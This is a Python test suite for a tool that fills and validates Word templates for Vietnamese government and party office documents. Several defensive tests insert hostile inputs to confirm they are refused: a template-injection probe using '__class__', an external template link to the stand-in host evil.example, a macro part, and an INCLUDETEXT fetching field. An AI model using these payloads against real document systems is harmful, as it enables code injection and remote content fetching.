"""The masters of papers: shipped, changed in Word, checked, filled."""

import io
import zipfile

import pytest
from docx import Document

from kheo.documents.paper.check.checking import report
from kheo.documents.paper.description import Head
from kheo.documents.paper.master import samples
from kheo.documents.paper.master.checking import Fault, measured, problems
from kheo.documents.paper.master.filling import filled
from kheo.documents.paper.master.shipped import shipped
from kheo.documents.paper.master.words import WORDS, Kind
from kheo.documents.paper.word import docx_of
from kheo.reading.opening.refusal import UnreadableError

W = "{http://schemas.openxmlformats.org/wordprocessingml/2006/main}"
HEADS = {
    "state": Head("Văn phòng Ủy ban nhân dân tỉnh", "UBND tỉnh Nam Sơn", "Nam Sơn"),
    "party": Head("Đảng bộ Văn phòng", "Đảng ủy tỉnh", "Nam Sơn", line="party"),
}


def papers(kind, side="state"):
    return samples.sample(kind, samples.numbered(HEADS[side], "VP"))


@pytest.fixture(scope="module")
def plan():
    return shipped(papers(Kind.PLAN)[0])


def lines(data):
    body = Document(io.BytesIO(data)).element.body
    said = ("".join(t.text or "" for t in p.iter(f"{W}t")) for p in body.iter(f"{W}p"))
    return [line for line in said if line]


def changed(data, change):
    document = Document(io.BytesIO(data))
    change(document)
    made = io.BytesIO()
    document.save(made)
    return made.getvalue()


def with_line(data, words):
    return changed(data, lambda document: document.add_paragraph(words))


def with_part(data, name, content):
    made = io.BytesIO(data)
    with zipfile.ZipFile(made, "a") as archive:
        archive.writestr(name, content)
    return made.getvalue()


def found(data, kind=Kind.PLAN):
    return [(p.fault, p.found) for p in problems(data, "mau.docx", kind, papers(kind))]


@pytest.mark.parametrize("kind", list(Kind))
def test_a_shipped_master_filled_says_what_the_paper_says_and_keeps_its_rules(kind):
    sample = papers(kind)
    master = shipped(sample[0])

    made = filled(master, sample)

    assert lines(made) == lines(docx_of(sample))
    assert report(made, "x.docx").deviations == ()
    assert problems(master, "x.docx", kind, sample) == []


def test_a_shipped_master_of_the_party_keeps_the_rules_of_the_party():
    sample = papers(Kind.LETTER, "party")
    checked = measured(shipped(sample[0]), "x.docx", sample)
    assert (checked.side, checked.deviations) == ("party", ())


@pytest.mark.parametrize("kind", list(Kind))
def test_a_shipped_master_holds_every_word_of_its_paper(kind):
    said = " ".join(lines(shipped(papers(kind)[0])))
    assert [name for name in WORDS[kind] if name not in said] == []


def test_both_copies_of_a_form_are_filled_each_with_its_number_and_code():
    sample = papers(Kind.FORM)
    document = Document(io.BytesIO(filled(shipped(sample[0]), sample)))
    text = [p.text for t in document.tables for c in t._cells for p in c.paragraphs]
    numbered = [line for line in text if line.startswith("Bản số")]
    assert (numbered, len(document.sections)) == (["Bản số 1/2", "Bản số 2/2"], 2)
    assert len(document.inline_shapes) == 2


def test_what_an_office_wrote_into_the_master_stands_in_its_papers(plan):
    master = with_line(plan, "Mẫu của Văn phòng, {{ co_quan_ban_hanh }}")
    said = lines(filled(master, papers(Kind.PLAN)))
    assert said[-1] == "Mẫu của Văn phòng, VĂN PHÒNGỦY BAN NHÂN DÂN TỈNH"


def test_a_line_whose_only_word_says_nothing_is_left_out(plan):
    sample = papers(Kind.PLAN)
    assert sample[0].signer.on_behalf == ""
    assert lines(filled(plan, sample)) == lines(docx_of(sample))


def test_a_condition_keeps_or_drops_a_line(plan):
    master = with_line(plan, "{% if quyen_han_ky %}Ký thay{% else %}Ký chính{% endif %}")
    assert lines(filled(master, papers(Kind.PLAN)))[-1] == "Ký chính"
    letter = with_line(shipped(papers(Kind.LETTER)[0]), "{% if quyen_han_ky %}Ký thay{% endif %}")
    assert lines(filled(letter, papers(Kind.LETTER)))[-1] == "Ký thay"


@pytest.mark.parametrize(
    ("words", "fault"),
    (
        ("{{ ho_ten }}", (Fault.UNKNOWN, "ho_ten")),
        ("{{ ban_so }}", (Fault.UNKNOWN, "ban_so")),
        ("Nội dung: {{p noi_dung }}", (Fault.WHOLE, "noi_dung")),
        ("{{ noi_dung }}", (Fault.WHOLE, "noi_dung")),
        ("{{p trich_yeu }}", (Fault.INSIDE, "trich_yeu")),
        ("{{ trich_yeu", (Fault.SYNTAX, "{{")),
        ("{{ trich_yeu.__class__ }}", (Fault.SYNTAX, "{{ trich_yeu.__class__ }}")),
        ("{% for x in y %}", (Fault.SYNTAX, "{% for x in y %}")),
        ("{{ cycler('x') }}", (Fault.SYNTAX, "{{ cycler('x') }}")),
        ("{{ trich_yeu|upper }}", (Fault.SYNTAX, "{{ trich_yeu|upper }}")),
    ),
)
def test_a_word_that_is_none_is_refused_with_its_place(plan, words, fault):
    [problem] = problems(with_line(plan, words), "x.docx", Kind.PLAN, papers(Kind.PLAN))
    assert (problem.fault, problem.found) == fault
    assert (problem.line > 0, problem.near) == (True, words[:60])


def test_a_master_without_the_content_is_refused(plan):
    def cleared(document):
        for paragraph in document.paragraphs:
            if "noi_dung" in paragraph.text:
                paragraph.text = ""

    assert found(changed(plan, cleared)) == [(Fault.MISSING, "noi_dung")]


def test_a_condition_that_never_ends_is_refused(plan):
    [(fault, _said)] = found(with_line(plan, "{% if trich_yeu %}"))
    assert fault == Fault.UNFILLABLE


def test_words_in_a_header_are_refused(plan):
    def headed(document):
        document.sections[0].header.add_paragraph("{{ trich_yeu }}")

    assert found(changed(plan, headed)) == [(Fault.ELSEWHERE, "word/header1.xml")]


def test_macros_links_and_fetching_fields_are_refused(plan):
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="a" Type="x" Target="https://evil.example/t.dotm" TargetMode="External"/>'
        "</Relationships>"
    )
    field = f'<w:p xmlns:w="{W[1:-1]}"><w:instrText>INCLUDETEXT x</w:instrText></w:p>'

    assert found(with_part(plan, "word/vbaProject.bin", b"x")) == [
        (Fault.MACRO, "word/vbaProject.bin")
    ]
    assert found(with_part(plan, "word/_rels/settings.xml.rels", rels)) == [
        (Fault.EXTERNAL, "https://evil.example/t.dotm")
    ]
    assert found(with_part(plan, "word/footnotes.xml", field)) == [(Fault.FETCHES, "INCLUDETEXT")]


def test_a_text_too_long_for_a_master_is_refused(plan):
    [(fault, _size)] = found(with_line(plan, " ".join(str(n * n) for n in range(100_000))))
    assert fault == Fault.LONG


def test_a_file_that_is_no_word_file_is_refused_in_words():
    with pytest.raises(UnreadableError, match="hỏng"):
        problems(b"PK rubbish", "x.docx", Kind.PLAN, papers(Kind.PLAN))


def test_what_a_paper_says_is_never_taken_for_a_word_of_the_master():
    head = Head("{{ trich_yeu }} <b>&", "{% if x %}", "Nam Sơn")
    sample = samples.sample(Kind.LETTER, samples.numbered(head, "VP"))
    master = shipped(papers(Kind.LETTER)[0])
    assert lines(filled(master, sample))[:2] == ["{% IF X %}", "{{ TRICH_YEU }} <B>&"]
